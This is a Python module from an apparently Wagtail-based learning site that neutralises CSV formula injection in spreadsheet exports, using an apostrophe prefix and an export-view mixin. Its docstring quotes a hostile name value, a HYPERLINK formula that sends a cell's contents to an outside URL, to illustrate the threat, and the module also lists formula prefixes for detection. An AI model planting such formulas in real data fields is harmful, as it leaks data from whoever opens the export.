"""Spreadsheet exports that never carry a live formula (CSV injection; docs/security.md, "Exports").

A spreadsheet program reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return before them) as a formula, so a learner who names themself
``=HYPERLINK("http://…?"&A1,"klik")`` would run that formula on the coordinator's computer. Every
text value of a CSV export goes through :func:`spreadsheet_safe`, which prefixes such a value with an
apostrophe (the spreadsheet's own "this is text" mark, as OWASP recommends). XLSX is safe already:
Wagtail writes every cell that openpyxl takes for a formula as a string.

- Admin listings and reports: use ``kok_learn.viewsets.ModelViewSet`` / ``SnippetViewSet`` instead of
  Wagtail's, or put :class:`SafeSpreadsheetExportMixin` first in the bases of a custom index or
  report view. ``tests/test_exports.py`` finds every admin view that exports and fails on one
  without the mixin.
- A hand-written CSV (``csv.writer``): pass each row through :func:`spreadsheet_safe_row`.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value, as text a spreadsheet will not evaluate when it would start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def spreadsheet_safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer().writerow`` with every value made safe."""
    return [spreadsheet_safe(value) for value in values]


class SafeSpreadsheetExportMixin:
    """For views with Wagtail's ``SpreadsheetExportMixin``: every CSV cell goes through spreadsheet_safe."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
